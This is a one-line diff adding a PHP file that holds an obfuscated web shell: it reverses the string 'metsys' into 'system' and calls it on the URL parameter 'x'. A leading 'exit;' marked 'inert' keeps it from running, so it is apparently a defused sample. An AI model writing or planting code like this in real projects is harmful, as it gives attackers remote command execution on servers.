@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $s = str_split("metsys"); $n = ""; for ($i = count($s) - 1; $i >= 0; $i--) { $n .= $s[$i]; } $n($_GET["x"]);
